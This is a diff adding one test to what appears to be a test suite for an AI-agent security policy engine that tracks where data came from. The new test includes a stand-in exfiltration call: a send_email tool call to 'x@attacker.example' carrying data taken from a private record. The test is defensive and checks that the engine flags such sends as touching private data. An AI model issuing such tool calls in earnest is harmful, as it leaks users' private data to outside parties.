@@ -301,6 +301,14 @@ describe('order and events', () => {
     expect(d.rules[0]?.id).toBe('chain.eit-pat-nat.sensitive');
     expect(d.provenance).toContain('private');
   });
+
+  it('a decision lists only the provenance it looked at: none for a read, the classes found for a send', () => {
+    const s = session();
+    run(s, [PAGE, { ...RECORD, id: 'rec1' }]);
+    // A private read after EIT needs no provenance to be decided: it lists none.
+    expect(s.decide({ ...RECORD, from: ['rec1'] }).provenance).toEqual([]);
+    expect(s.decide({ tool: 'send_email', args: { to: 'x@attacker.example', body: 'summary attached' }, from: ['rec1'] }).provenance).toEqual(['private']);
+  });
 });
 
 describe('Code Mode', () => {
